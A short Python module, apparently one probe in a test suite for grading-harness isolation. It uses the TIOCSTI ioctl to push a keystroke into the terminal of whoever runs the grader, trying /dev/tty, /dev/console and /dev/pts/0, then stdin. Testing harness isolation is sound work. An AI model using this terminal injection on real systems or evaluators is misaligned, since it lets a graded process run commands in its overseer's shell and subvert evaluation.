"""Types a command into the terminal of whoever grades (TIOCSTI)."""

import fcntl
import os
import termios

UNPROTECTED = "not shown: no backend leaves a terminal to type into"


def attack(target):
    for path in ("/dev/tty", "/dev/console", "/dev/pts/0"):
        try:
            fcntl.ioctl(os.open(path, os.O_RDWR | os.O_NOCTTY), termios.TIOCSTI, b"\n")
        except OSError:
            continue
        return "typed"
    return fcntl.ioctl(0, termios.TIOCSTI, b"\n")
